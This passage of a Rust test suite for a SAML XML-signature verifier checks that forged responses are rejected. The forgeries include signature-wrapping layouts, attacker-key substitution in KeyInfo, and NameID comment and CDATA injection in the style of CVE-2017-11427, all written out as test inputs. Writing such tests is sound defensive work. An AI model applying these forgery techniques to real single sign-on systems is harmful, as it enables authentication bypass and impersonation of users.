    let trusted_b64 = current.to_base64().expect("certificate encodes");
    let attacker_b64 = common::cert("idp-rsa-attacker")
        .to_base64()
        .expect("certificate encodes");
    let disguised = replace_once(&forged, &attacker_b64, &trusted_b64);
    assert_eq!(
        check(
            &disguised,
            Target::Assertion,
            std::slice::from_ref(&current),
            &Policy::default()
        ),
        Err("signature_invalid")
    );
    // Conversely, the genuine signature verifies whatever KeyInfo says, or without KeyInfo.
    let key_info = element_text(&signed.xml, "<ds:KeyInfo>", "</ds:KeyInfo>");
    let swapped = replace_once(&signed.xml, &trusted_b64, &attacker_b64);
    assert_eq!(signed.check(&swapped), Ok(0));
    let without = signed.edit(key_info, "");
    assert_eq!(signed.check(&without), Ok(0));
}

#[test]
fn verifies_either_certificate_during_rollover() {
    let unsigned = common::saml_response(RESPONSE_ID, ASSERTION_ID);
    let trusted = [
        common::cert("idp-rsa-current"),
        common::cert("idp-rsa-next"),
    ];
    for (stem, index) in [("idp-rsa-current", 0), ("idp-rsa-next", 1)] {
        let xml = sign_assertion(&unsigned, stem, &SignOptions::default());
        assert_eq!(
            check(&xml, Target::Assertion, &trusted, &Policy::default()),
            Ok(index),
            "{stem}"
        );
    }
    let attacker = sign_assertion(&unsigned, "idp-rsa-attacker", &SignOptions::default());
    assert_eq!(
        check(&attacker, Target::Assertion, &trusted, &Policy::default()),
        Err("signature_invalid")
    );
    // The index is into the caller's list, also when keys of another kind sit in front.
    let mixed = [
        common::cert("idp-rsa-current"),
        common::cert("idp-ec-current"),
        common::cert("idp-ec-next"),
    ];
    let ec_options = options(SignatureAlgorithm::EcdsaSha256, DigestAlgorithm::Sha256);
    for (stem, index) in [("idp-ec-current", 1), ("idp-ec-next", 2)] {
        let xml = sign_assertion(&unsigned, stem, &ec_options);
        assert_eq!(
            check(&xml, Target::Assertion, &mixed, &Policy::default()),
            Ok(index),
            "{stem}"
        );
    }
}

#[test]
fn verifies_every_sha2_algorithm_pair() {
    for (stem, signatures) in [
        (
            "idp-rsa-current",
            [
                SignatureAlgorithm::RsaSha256,
                SignatureAlgorithm::RsaSha384,
                SignatureAlgorithm::RsaSha512,
            ],
        ),
        (
            "idp-ec-current",
            [
                SignatureAlgorithm::EcdsaSha256,
                SignatureAlgorithm::EcdsaSha384,
                SignatureAlgorithm::EcdsaSha512,
            ],
        ),
    ] {
        for signature in signatures {
            for digest in [
                DigestAlgorithm::Sha256,
                DigestAlgorithm::Sha384,
                DigestAlgorithm::Sha512,
            ] {
                let signed = Signed::new(stem, signature, digest);
                let doc = parse_str(&signed.xml, &Limits::default()).expect("signed parses");
                let element = Target::Assertion.find(&doc).expect("assertion");
                let verified = verify(
                    element,
                    std::slice::from_ref(&signed.cert),
                    &Policy::default(),
                )
                .unwrap_or_else(|e| panic!("{signature:?}/{digest:?}: {e}"));
                assert_eq!(verified.signature_algorithm(), signature);
                assert_eq!(verified.digest_algorithm(), digest);
            }
        }
    }
}

#[test]
fn verifies_response_and_assertion_signed_together() {
    let assertion_signed = Signed::rsa();
    assertion_signed.assert_verifies();
    let both = sign(
        &assertion_signed.xml,
        RESPONSE_ID,
        &common::key("idp-rsa-current"),
        &SignOptions::default(),
    )
    .expect("response signs");
    assert_eq!(assertion_signed.check_at(&both, Target::Response), Ok(0));
    assert_eq!(assertion_signed.check_at(&both, Target::Assertion), Ok(0));
    // The Response signature covers the assertion: tampering inside it breaks both.
    let tampered = replace_once(
        &both,
        ">alice@example.com</saml:NameID>",
        ">mallory@example.com</saml:NameID>",
    );
    assert_eq!(
        assertion_signed.check_at(&tampered, Target::Response),
        Err("digest_mismatch")
    );
    assert_eq!(
        assertion_signed.check_at(&tampered, Target::Assertion),
        Err("digest_mismatch")
    );
}

// ---------------------------------------------------------------------------------------------
// Signature wrapping (XSW).

/// The signed fixture's Assertion with a different NameID, as an attacker would write it.
fn evil_assertion(id: &str) -> String {
    let unsigned = common::saml_response(RESPONSE_ID, id);
    replace_once(
        assertion_of(&unsigned),
        ">alice@example.com</saml:NameID>",
        ">mallory@attacker.example</saml:NameID>",
    )
}

#[test]
fn rejects_signed_assertion_wrapped_away_with_evil_copy_in_its_place() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let original = assertion_of(&signed.xml);
    // XSW: the signed original moves into Extensions, an unsigned evil assertion with the same
    // ID takes its place.
    let xml = with_extensions(
        &signed.edit(original, &evil_assertion(ASSERTION_ID)),
        original,
    );
    assert_eq!(
        signed.check_at(&xml, Target::SignatureParent),
        Err("duplicate_id"),
        "the wrapped original"
    );
    assert_eq!(
        signed.check(&xml),
        Err("missing_signature"),
        "the evil assertion the SP would read"
    );
    // The evil assertion carrying a copy of the original Signature, so its Reference URI matches.
    let evil_signed = replace_once(
        &evil_assertion(ASSERTION_ID),
        "</saml:Issuer>",
        &format!("</saml:Issuer>{}", signed.signature()),
    );
    let xml = with_extensions(&signed.edit(original, &evil_signed), original);
    assert_eq!(signed.check(&xml), Err("duplicate_id"));
    // And the original moved after the evil one, so the evil one comes first in document order.
    let xml = signed.edit(original, &format!("{evil_signed}{original}"));
    assert_eq!(signed.check(&xml), Err("duplicate_id"));
}

#[test]
fn rejects_evil_assertion_holding_the_original_signature() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let original = assertion_of(&signed.xml);
    let stripped = replace_once(original, signed.signature(), "");
    let evil = replace_once(
        &evil_assertion("_evil"),
        "</saml:Issuer>",
        &format!("</saml:Issuer>{}", signed.signature()),
    );
    let xml = with_extensions(&signed.edit(original, &evil), &stripped);
    assert_eq!(signed.check(&xml), Err("reference_mismatch"));
    // The original, now without a signature, does not verify either.
    let doc = parse_str(&xml, &Limits::default()).expect("parses");
    let hidden = doc
        .descendants()
        .find(|n| n.attribute("ID") == Some(ASSERTION_ID))
        .expect("original is still there");
    assert_eq!(
        verify(
            hidden,
            std::slice::from_ref(&signed.cert),
            &Policy::default()
        )
        .map(|_| ())
        .map_err(|e| e.code()),
        Err("missing_signature")
    );
}

#[test]
fn rejects_original_assertion_hidden_in_signature_object() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let original = assertion_of(&signed.xml);
    let signature = signed.signature();
    let stripped = replace_once(original, signature, "");
    // The evil assertion (same ID) holds the signature, whose ds:Object holds the original.
    let wrapping = replace_once(
        signature,
        "</ds:Signature>",
        &format!("<ds:Object>{stripped}</ds:Object></ds:Signature>"),
    );
    let evil = replace_once(
        &evil_assertion(ASSERTION_ID),
        "</saml:Issuer>",
        &format!("</saml:Issuer>{wrapping}"),
    );
    let xml = signed.edit(original, &evil);
    assert_eq!(signed.check(&xml), Err("unexpected_structure"));
}

// ---------------------------------------------------------------------------------------------
// Reading what was verified.

fn name_id_text(xml: &str, cert: &Certificate) -> Result<String, &'static str> {
    let doc = parse_str(xml, &Limits::default()).map_err(|e| e.code())?;
    let element = Target::Assertion.find(&doc).expect("assertion");
    let verified =
        verify(element, std::slice::from_ref(cert), &Policy::default()).map_err(|e| e.code())?;
    let name_id = verified
        .element()
        .child(SAML, "Subject")
        .and_then(|s| s.child(SAML, "NameID"))
        .expect("verified assertion has Subject/NameID");
    Ok(name_id.text())
}

#[test]
fn reads_name_id_across_a_signed_comment() {
    // CVE-2017-11427 family: the IdP signed `alice@corp.com.evil.com` (comments are not part of
    // exc-c14n without comments); a reader that stops at the comment sees `alice@corp.com`.
    let unsigned = replace_once(
        &common::saml_response(RESPONSE_ID, ASSERTION_ID),
        ">alice@example.com</saml:NameID>",
        ">alice@corp.com<!---->.evil.com</saml:NameID>",
    );
    let signed = Signed::of(
        &unsigned,
        "idp-rsa-current",
        SignatureAlgorithm::RsaSha256,
        DigestAlgorithm::Sha256,
    );
    signed.assert_verifies();
    assert_eq!(
        name_id_text(&signed.xml, &signed.cert).as_deref(),
        Ok("alice@corp.com.evil.com")
    );
}

#[test]
fn reads_name_id_across_a_comment_inserted_after_signing() {
    let unsigned = replace_once(
        &common::saml_response(RESPONSE_ID, ASSERTION_ID),
        ">alice@example.com</saml:NameID>",
        ">alice@corp.com.evil.com</saml:NameID>",
    );
    let signed = Signed::of(
        &unsigned,
        "idp-rsa-current",
        SignatureAlgorithm::RsaSha256,
        DigestAlgorithm::Sha256,
    );
    signed.assert_verifies();
    // Comments are not signed, so inserting one keeps the signature valid; what is read must
    // still be the whole signed value. CDATA sections and character references canonicalize to
    // the characters they stand for, so they too leave the signature valid.
    for injected in [
        "alice@corp.com<!---->.evil.com",
        "alice@corp.com<!-- x -->.evil.com",
        "<!---->alice@corp.com.evil.com<!---->",
        // Not comments, but also the same signed characters in another spelling.
        "alice@corp.com<![CDATA[]]>.evil.com",
        "alice@corp.com<![CDATA[.evil]]>.com",
        "alice&#64;corp.com&#x2E;evil.com",
        "alice@corp.com<?pi x?>.evil.com",
    ] {
        let xml = signed.edit(
            ">alice@corp.com.evil.com</saml:NameID>",
            &format!(">{injected}</saml:NameID>"),
        );
        if injected.contains("<?") {
            // A processing instruction is part of exc-c14n output: it changes what was signed.
            assert_eq!(signed.check(&xml), Err("digest_mismatch"), "{injected}");
            continue;
        }
        assert_eq!(
            name_id_text(&xml, &signed.cert).as_deref(),
            Ok("alice@corp.com.evil.com"),
            "{injected}"
        );
    }
}

#[test]
fn verified_text_excludes_the_signature() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let doc = parse_str(&signed.xml, &Limits::default()).expect("parses");
    let element = Target::Assertion.find(&doc).expect("assertion");
    let verified = verify(
        element,
        std::slice::from_ref(&signed.cert),
        &Policy::default(),
    )
    .expect("verifies");
    let root = verified.element();
    assert_eq!(root.attribute("ID"), Some(ASSERTION_ID));
    let digest = doc
        .descendants()
        .find(|n| n.has_tag_name((DS, "DigestValue")))
        .and_then(|n| n.text())
        .expect("DigestValue text");
    let certificate = doc
        .descendants()
        .find(|n| n.has_tag_name((DS, "X509Certificate")))
        .and_then(|n| n.text())
        .expect("X509Certificate text");
    for text in std::iter::once(root.text()).chain(root.children().map(|c| c.text())) {
        assert!(!text.contains(digest), "{text}");
        assert!(!text.contains(certificate), "{text}");
        assert!(!text.contains(EXC_C14N), "{text}");
    }
    assert!(root.text().contains("alice@example.com"));
    assert!(root.child(DS, "Signature").is_none());
    assert!(root.children().all(|c| c.namespace() != Some(DS)));
    let names: Vec<&str> = root.children().map(|c| c.name()).collect();
    assert_eq!(
        names,
        [
            "Issuer",
            "Subject",
            "Conditions",
            "AuthnStatement",
            "AttributeStatement"
        ]
    );
}

#[test]
fn verified_exposes_only_descendants_of_the_signed_element() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let doc = parse_str(&signed.xml, &Limits::default()).expect("parses");
    let element = Target::Assertion.find(&doc).expect("assertion");
    let verified = verify(
        element,
        std::slice::from_ref(&signed.cert),
        &Policy::default(),
    )
    .expect("verifies");

    // Everything reachable through VerifiedNode, by byte range ...
    let mut reachable = Vec::new();
    let mut stack = vec![verified.element()];
    while let Some(node) = stack.pop() {
        reachable.push(node.range());
        stack.extend(node.children());
    }
    reachable.sort_by_key(|r| r.start);
    // ... is exactly the assertion's element subtree without the signature's.
    let signature = element
        .children()
        .find(|n| n.has_tag_name((DS, "Signature")))
        .expect("signature");
    let mut expected: Vec<_> = element
        .descendants()
        .filter(|n| n.is_element() && !n.ancestors().any(|a| a == signature))
        .map(|n| n.range())
        .collect();
    expected.sort_by_key(|r| r.start);
    assert_eq!(reachable, expected);

    let response = doc.root_element();
    assert!(verified.contains(element));
    assert!(!verified.contains(response));
    for outside in response
        .children()
        .filter(|n| n.is_element() && *n != element)
    {
        assert!(!verified.contains(outside), "{:?}", outside.tag_name());
    }
    assert!(
        response
            .descendants()
            .filter(|n| n.has_tag_name((SAMLP, "StatusCode")))
            .all(|n| !verified.contains(n))
    );
}

#[test]
fn verified_does_not_vouch_for_unsigned_key_info_content() {
    // KeyInfo is never read and never checked, so it can carry anything, such as an attacker's
    // assertion with an ID of its own. The enveloped-signature transform leaves the whole
    // Signature out of the digest: nothing in it is signed content, and `Verified::contains`,
    // the predicate a caller would use to ask "was this node verified?", must say no.
    let signed = Signed::rsa();
    signed.assert_verifies();
    let xml = signed.edit(
        "<ds:KeyInfo>",
        &format!("<ds:KeyInfo>{}", evil_assertion("_evil")),
    );
    let doc = parse_str(&xml, &Limits::default()).expect("parses");
    let element = Target::Assertion.find(&doc).expect("assertion");
    let verified = verify(
        element,
        std::slice::from_ref(&signed.cert),
        &Policy::default(),
    )
    .expect("KeyInfo content does not affect verification");
    let evil = doc
        .descendants()
        .find(|n| n.attribute("ID") == Some("_evil"))
        .expect("evil assertion");
    let key_info = doc
        .descendants()
        .find(|n| n.has_tag_name((DS, "KeyInfo")))
        .expect("KeyInfo");
    let evil_name_id = evil
        .descendants()
        .find(|n| n.has_tag_name((SAML, "NameID")))
        .expect("evil NameID");
    // Control: the genuine content is contained. (Walk down by children: in document order the
    // evil NameID inside the Signature comes before the genuine one.)
    let name_id = element
        .children()
        .find(|n| n.has_tag_name((SAML, "Subject")))
        .and_then(|subject| {
            subject
                .children()
                .find(|n| n.has_tag_name((SAML, "NameID")))
        })
        .expect("NameID");
    assert!(verified.contains(name_id));
    assert_eq!(
        [
            verified.contains(key_info),
            verified.contains(evil),
            verified.contains(evil_name_id)
        ],
        [false, false, false],
        "Verified::contains vouches for unsigned nodes inside ds:Signature/ds:KeyInfo"
    );
}

/// `verify` on the node `pick` chooses, with a panic reported as the code "panicked".
fn outcome_at(
    xml: &str,
    pick: for<'a, 'i> fn(&'a Document<'i>) -> Node<'a, 'i>,
    cert: &Certificate,
) -> Result<(), &'static str> {
    let doc = parse_str(xml, &Limits::default()).expect("parses");
    let node = pick(&doc);
    std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        verify(node, std::slice::from_ref(cert), &Policy::default())
            .map(|_| ())
            .map_err(|e| e.code())
    }))
    .unwrap_or(Err("panicked"))
}

fn document_node<'a, 'i>(doc: &'a Document<'i>) -> Node<'a, 'i> {
    doc.root()
}

fn accented_text_node<'a, 'i>(doc: &'a Document<'i>) -> Node<'a, 'i> {
    doc.descendants()
        .find(|n| n.is_text() && n.text().is_some_and(|t| t.starts_with('\u{e9}')))
        .expect("accented text node")
}

#[test]
fn rejects_non_element_nodes_without_panicking() {
    // `verify` is handed a node; a caller passing `doc.root()` instead of `doc.root_element()`,
    // or a text node, must get an error whatever the input bytes are, not a panic.
    let signed = Signed::rsa();
    signed.assert_verifies();
    // A UTF-8 byte order mark before the XML declaration (input an attacker controls).
    let with_bom = format!("\u{FEFF}{}", signed.xml);
    let root = outcome_at(&with_bom, document_node, &signed.cert);
    // A text node that starts with a multi-byte character.
    let accented = signed.edit(
        "<saml:Issuer>http://www.okta.com/exk1a2b3c4d5e6f7g8h9</saml:Issuer>\n  <samlp:Status>",
        "<saml:Issuer>\u{e9}http://www.okta.com/exk1a2b3c4d5e6f7g8h9</saml:Issuer>\n  <samlp:Status>",
    );
    let text = outcome_at(&accented, accented_text_node, &signed.cert);
    assert_eq!(
        [root, text],
        [Err("missing_signature"), Err("missing_signature")]
    );
}
